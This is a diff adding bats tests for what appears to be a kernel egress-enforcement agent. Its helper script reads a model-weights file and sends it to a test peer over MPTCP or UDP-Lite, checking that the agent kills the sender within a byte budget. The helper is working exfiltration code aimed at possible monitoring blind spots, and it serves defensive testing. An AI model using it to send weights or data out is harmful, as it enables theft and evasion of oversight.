@@ -71,6 +71,66 @@ print("sent", len(data))' "$W/model.safetensors" "$PEER4"
 	stop_agent
 }
 
+# other_proto_leak PROTO WHEN: the weights sent with `sendall`/`sendto` over
+# an MPTCP socket (PROTO mptcp; the sink is plain TCP, so the connection
+# falls back to TCP on one subflow, which the kernel, not the sender's
+# send, feeds) or UDP-Lite, the socket connected before or after the read
+# (WHEN before|after)
+other_proto_leak() {
+	run in_cg python3 -c '
+import socket, sys
+path, host, port, proto, when = sys.argv[1:6]
+def sock():
+    if proto == "mptcp":
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
+    else:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDPLITE)
+    s.connect((host, int(port)))
+    return s
+s = sock() if when == "before" else None
+data = open(path, "rb").read()
+s = s or sock()
+if proto == "mptcp":
+    s.sendall(data)
+else:
+    for i in range(0, len(data), 1400):
+        s.send(data[i:i + 1400])
+print("sent", len(data))' "$W/model.safetensors" "$PEER4" "$PORT" "$@"
+}
+
+@test "blind spot: enforce: MPTCP connected before the read (no send hook sees its data) delivers nothing, 3 runs; after the read: killed at the budget" {
+	[ "$(sysctl -n net.mptcp.enabled 2>/dev/null)" = 1 ] || skip "no MPTCP on this kernel"
+	start_sink tcp
+	start_agent --mode enforce
+	local i
+	for i in 1 2 3; do
+		other_proto_leak mptcp before
+		[ "$status" -eq 137 ]
+		run alert_wait --timeout 5 action=killed process.cmdline~mptcp
+		[ "$status" -eq 0 ]
+	done
+	figure "MPTCP connected before the read: sink bytes, 3 runs" "$(sink_bytes)"
+	[ "$(sink_bytes)" -eq 0 ]
+	other_proto_leak mptcp after
+	[ "$status" -eq 137 ]
+	figure "MPTCP connected after the read: sink bytes (budget 1 MiB)" "$(sink_bytes)"
+	[ "$(sink_bytes)" -le $((1 << 20)) ]
+	stop_agent
+	[ "$(alert_get kernel.failed_closed kind=agent_stop)" -ge 1 ]
+}
+
+@test "blind spot: enforce: the weights over UDP-Lite are killed at the budget" {
+	start_sink udplite
+	start_agent --mode enforce
+	other_proto_leak udplite after
+	[ "$status" -eq 137 ]
+	figure "UDP-Lite: sink bytes (budget 1 MiB)" "$(sink_bytes "$PORT" udplite)"
+	[ "$(sink_bytes "$PORT" udplite)" -le $((1 << 20)) ]
+	run alert_wait --timeout 5 action=killed network.daddr="$PEER4" \
+		taint.sources.0.path="$W/model.safetensors"
+	[ "$status" -eq 0 ]
+}
+
 # icmp_leak MODE: the weights as ICMP echo through a ping socket (not raw:
 # never refused), counted on the sender's taint like UDP at egress. Ping
 # sockets need the sender's group in ping_group_range (Debian: nobody's),
